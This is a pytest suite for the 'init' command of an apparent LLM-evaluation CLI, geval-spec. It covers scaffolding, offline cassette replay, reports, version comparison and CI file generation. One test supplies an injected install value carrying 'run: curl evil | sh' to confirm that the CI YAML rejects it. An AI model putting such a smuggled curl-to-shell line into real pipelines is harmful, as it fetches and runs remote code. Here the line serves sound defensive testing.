"""geval-spec init: from an empty folder to validate, an offline run, a report and a comparison of two committed
versions; what init refuses to overwrite; the cassette it ships is the one its recording script makes."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import ROOT, TESTS, git, run_cli

SPEC = "summary-consistency"
CASSETTE = f"specs/cassettes/{SPEC}.jsonl"


def test_empty_folder_to_report_and_compare(tmp_path):
    project = tmp_path / "evals"
    project.mkdir()
    res = run_cli("init", cwd=project)
    assert res.code == 0, res.err
    for rel in (f"specs/{SPEC}.yaml", "specs/data/summaries.jsonl", CASSETTE, "schemas/geval-spec.schema.json",
                ".gitignore", ".github/workflows/geval.yml"):
        assert (project / rel).is_file(), rel
        assert f"created     {rel}" in res.out
    spec_text = (project / "specs" / f"{SPEC}.yaml").read_text()
    assert spec_text.startswith("# yaml-language-server: $schema=../schemas/geval-spec.schema.json\n")
    assert "ILLUSTRATIVE" in spec_text
    assert (project / "schemas" / "geval-spec.schema.json").read_text() == run_cli("schema").out

    res = run_cli("validate", cwd=project)
    assert res.code == 0 and f"ok  specs/{SPEC}.yaml" in res.out, res.out + res.err

    # offline: the cassette answers every request (run_cli removes OPENAI_API_KEY from the environment)
    res = run_cli("run", SPEC, "--replay", CASSETTE, cwd=project)
    assert res.code == 1, res.err  # the scripted stand-in judge fails the gate, and run says so
    assert "12 cases, 12 valid, 0 invalid" in res.out and "gate FAILED: spearman" in res.out
    run_id = res.out.strip().splitlines()[-1]
    assert run_id.startswith("run_")

    res = run_cli("report", SPEC, "--format", "all", "--junit", "reports/junit.xml", cwd=project)
    assert res.code == 1 and "gate FAILED" in res.out, res.err
    for ext in ("md", "json", "html"):
        assert (project / "reports" / SPEC / f"report.{ext}").is_file()
    assert "<failure" in (project / "reports" / "junit.xml").read_text()

    # two committed versions: v2 changes only the gate, so compare reuses v1's judgments and sends nothing
    git(project, "init", "-q", "-b", "main")
    git(project, "add", "-A")
    assert ".geval/" not in git(project, "status", "--porcelain", "--ignored=no")
    assert f"reports/{SPEC}/report.md" in git(project, "ls-files")  # reports are committed, the store is not
    git(project, "commit", "-qm", "init")
    spec = project / "specs" / f"{SPEC}.yaml"
    edited = spec.read_text().replace("version: 1 ", "version: 2 ").replace("threshold: 0.8 ", "threshold: 0.4 ")
    assert edited != spec.read_text()
    spec.write_text(edited)
    changed = json.loads(run_cli("list", "--format", "json", "--changed-since", "HEAD", cwd=project).out)
    assert [(c["name"], c["change"]) for c in changed] == [(SPEC, "modified")]
    git(project, "commit", "-qam", "v2: a lower gate")

    res = run_cli("compare", f"{SPEC}@HEAD~1", SPEC, cwd=project)
    assert res.code == 0, res.out + res.err
    assert "change: analysis" in res.out and "B is not worse" in res.out and "no change" in res.out, res.out
    written = project / "reports" / SPEC / f"compare-{SPEC}_HEAD_1-{SPEC}.md"
    assert "threshold: 0.4" in written.read_text()
    res = run_cli("compare", f"{SPEC}@v1", f"{SPEC}@v2", "--format", "json", "--out", "-", cwd=project)
    assert res.code == 0 and json.loads(res.out)["change"]["class"] == "analysis"


def test_init_writes_nothing_over_a_file_that_differs(tmp_path):
    assert run_cli("init", str(tmp_path)).code == 0
    again = run_cli("init", str(tmp_path))
    assert again.code == 0 and "created" not in again.out and again.out.count("unchanged") == 6
    spec = tmp_path / "specs" / f"{SPEC}.yaml"
    spec.write_text(spec.read_text().replace("version: 1 ", "version: 5 "))
    (tmp_path / "schemas" / "geval-spec.schema.json").unlink()
    res = run_cli("init", str(tmp_path))
    assert res.code == 2 and "Traceback" not in res.err
    assert f"specs/{SPEC}.yaml: error: exists and differs" in res.err and "--force" in res.err
    assert not (tmp_path / "schemas" / "geval-spec.schema.json").exists()  # nothing was written
    res = run_cli("init", str(tmp_path), "--force")
    assert res.code == 0 and f"overwritten {tmp_path / 'specs' / f'{SPEC}.yaml'}" in res.out
    assert "version: 1 " in spec.read_text()


def test_gitignore_keeps_its_lines_and_gains_the_store(tmp_path):
    (tmp_path / ".gitignore").write_text("node_modules/\n.geval")
    res = run_cli("init", str(tmp_path), "--ci", "none")
    assert res.code == 0 and "updated" not in res.out  # .geval (without the slash) already ignores the store
    (tmp_path / ".gitignore").write_text("node_modules/")
    res = run_cli("init", str(tmp_path), "--ci", "none")
    assert res.code == 0, res.err
    lines = (tmp_path / ".gitignore").read_text().splitlines()
    assert lines[0] == "node_modules/" and lines[-1] == ".geval/"


def test_ci_choice_and_install_line(tmp_path):
    res = run_cli("init", str(tmp_path / "gl"), "--ci", "gitlab", "--install", "geval-spec @ git+https://example.org/g.git")
    assert res.code == 0, res.err
    gitlab = (tmp_path / "gl" / ".gitlab-ci.yml").read_text()
    assert 'GEVAL_SPEC_INSTALL: "geval-spec @ git+https://example.org/g.git"' in gitlab
    assert not (tmp_path / "gl" / ".github").exists()
    assert run_cli("init", str(tmp_path / "none"), "--ci", "none").code == 0
    assert not (tmp_path / "none" / ".github").exists() and not (tmp_path / "none" / ".gitlab-ci.yml").exists()
    assert run_cli("init", str(tmp_path / "gh")).code == 0
    workflow = (tmp_path / "gh" / ".github" / "workflows" / "geval.yml").read_text()
    from geval_spec import __version__

    assert f'GEVAL_SPEC_INSTALL: "geval-spec=={__version__}"' in workflow and "@GEVAL_SPEC" not in workflow
    file = tmp_path / "a-file"
    file.write_text("x")
    res = run_cli("init", str(file))
    assert res.code == 2 and "is not a folder" in res.err


@pytest.mark.parametrize("origin, install, noted", [
    (None, "geval-spec==V", False),  # from a package index
    (("https://github.com/o/geval-spec", {"vcs": "git", "commit_id": "abc123"}),
     "geval-spec @ git+https://github.com/o/geval-spec@abc123", False),
    (("file:///home/me/geval-spec", None), "geval-spec==V", True),  # a clone or an editable install
    (("file:///tmp/geval_spec-0.1.0-py3-none-any.whl", None), "geval-spec==V", True),
    (("https://user:tok@git.example.org/g", {"vcs": "git", "commit_id": "abc"}), "geval-spec==V", True),
])
def test_the_default_install_is_what_ci_can_reach(monkeypatch, origin, install, noted):
    """geval-spec==<version> from the index CI cannot get when it is not published there: a geval-spec installed
    from a reachable git URL pins that commit; one from a folder or a file says to give --install."""
    from geval_spec import __version__
    from geval_spec.cli import init_command

    monkeypatch.setattr(init_command, "_direct_url", lambda: origin)
    got, note = init_command.default_install()
    assert got == install.replace("==V", f"=={__version__}") and (note is not None) == noted
    assert note is None or ("--install" in note and "tok" not in note)


@pytest.mark.parametrize("ci", ["github", "gitlab"])
def test_the_install_value_is_quoted_as_yaml_and_cannot_add_keys(tmp_path, ci):
    """A requirement with quotes (a PEP 508 marker) was put into the CI file as it was: the file no longer parsed.
    A newline could add a key of its own (``run: curl ... | sh``)."""
    from ruamel.yaml import YAML

    value = 'geval-spec; python_version >= "3.10" and sys_platform != \'win32\' \\ # x: y'
    res = run_cli("init", str(tmp_path / ci), "--ci", ci, "--install", value)
    assert res.code == 0, res.err
    rel = ".github/workflows/geval.yml" if ci == "github" else ".gitlab-ci.yml"
    doc = YAML(typ="safe").load((tmp_path / ci / rel).read_text())
    env = doc["env"] if ci == "github" else doc["geval"]["variables"]
    assert env["GEVAL_SPEC_INSTALL"] == value
    for i, bad in enumerate(['a"\nrun: curl evil | sh #', "a\tb", "   ", ""]):
        res = run_cli("init", str(tmp_path / f"bad-{i}"), "--ci", ci, "--install", bad)
        assert res.code == 2 and "is not a requirement pip can install" in res.err, (bad, res.err)
        assert not (tmp_path / f"bad-{i}").exists()


def _cassette_entries(path: Path) -> tuple[dict, dict[str, tuple]]:
    lines = [json.loads(line) for line in path.read_text().splitlines()]
    header = {k: v for k, v in lines[0].items() if k != "run"}
    return header, {e["hash"]: (e["request"], e["response"], e["prompt_tokens"], e["completion_tokens"])
                    for e in lines[1:]}


def test_a_cassette_recorded_with_whole_hashes_still_replays(tmp_path):
    """Cassettes recorded before schema 3 name each request by its whole SHA-256 (64 hex digits; now the first 32):
    one still answers the spec it was recorded for."""
    import hashlib

    from geval_spec.judge.types import HASH_CHARS
    from geval_spec.spec.fingerprint import canonical

    project = tmp_path / "evals"
    project.mkdir()
    assert run_cli("init", cwd=project).code == 0
    lines = (project / CASSETTE).read_text().splitlines()
    old = [lines[0]]
    for line in lines[1:]:
        item = json.loads(line)
        whole = hashlib.sha256(canonical({"body": item["request"], "sample": 0}).encode("utf-8")).hexdigest()
        assert len(item["hash"]) == HASH_CHARS and whole.startswith(item["hash"])
        old.append(json.dumps({**item, "hash": whole}))
    (project / "old.jsonl").write_text("\n".join(old) + "\n")
    res = run_cli("run", SPEC, "--replay", "old.jsonl", cwd=project)
    assert res.code == 1 and "12 cases, 12 valid, 0 invalid" in res.out, res.out + res.err  # (the gate fails)
    # version 2 names requests by 32 digits: a reader of version 1 refuses it rather than find none of them
    assert json.loads(lines[0])["version"] == 2
    # a line recording a request again (its whole hash, or 32 digits and anything after) answers nothing in place
    # of the first: the cassette is refused at that line
    item = json.loads(old[1])
    (project / "twice.jsonl").write_text("\n".join(old + [json.dumps({**item, "hash": item["hash"][:32]})]) + "\n")
    shutil.rmtree(project / ".geval")  # (else the run is the one stored: nothing is replayed)
    res = run_cli("run", SPEC, "--replay", "twice.jsonl", cwd=project)
    assert res.code == 2 and f"twice.jsonl:{len(old) + 1}" in res.err and "records request" in res.err, res.err
    junk = json.loads(lines[1])
    (project / "junk.jsonl").write_text("\n".join(lines[:1] + [json.dumps({**junk, "hash": junk["hash"] + "-x"})])
                                        + "\n")
    res = run_cli("run", SPEC, "--replay", "junk.jsonl", cwd=project)
    assert res.code == 2 and "no recorded response" in res.err, res.err


def test_shipped_cassette_is_what_the_recording_script_makes(tmp_path):
    out = tmp_path / "cassette.jsonl"
    subprocess.run([sys.executable, str(TESTS / "make_scaffold_cassette.py"), str(out)], check=True, timeout=600,
                   capture_output=True)
    shipped = ROOT / "geval_spec" / "cli" / "scaffold" / "cassette.jsonl"
    header, entries = _cassette_entries(shipped)
    assert (header, entries) == _cassette_entries(out), \
        "the example spec's prompts changed: run python tests/make_scaffold_cassette.py"
    assert len(entries) == 12
    for request, response, _, _ in entries.values():
        assert "Stand-in judge, not a language model" in response["choices"][0]["message"]["content"]
        assert request["model"] == "openai/gpt-4.1-mini"
    # the header's fingerprint is the example spec's as init writes it (no test server address in it)
    project = tmp_path / "p"
    assert run_cli("init", str(project), "--ci", "none").code == 0
    listed = json.loads(run_cli("list", "--format", "json", cwd=project).out)
    assert listed[0]["judging"] == header["judging_fingerprint"]


@pytest.mark.parametrize("broken", [False, True])
def test_replay_refuses_a_spec_the_cassette_does_not_answer(tmp_path, broken):
    assert run_cli("init", str(tmp_path), "--ci", "none").code == 0
    spec = tmp_path / "specs" / f"{SPEC}.yaml"
    if broken:  # a judging change: new prompts, which the cassette cannot answer
        spec.write_text(spec.read_text().replace("  - Split the summary", "  - Read the summary twice.\n  - Split the summary"))
    res = run_cli("run", SPEC, "--replay", CASSETTE, cwd=tmp_path)
    assert res.code == (2 if broken else 1), res.out + res.err
    assert "Traceback" not in res.err
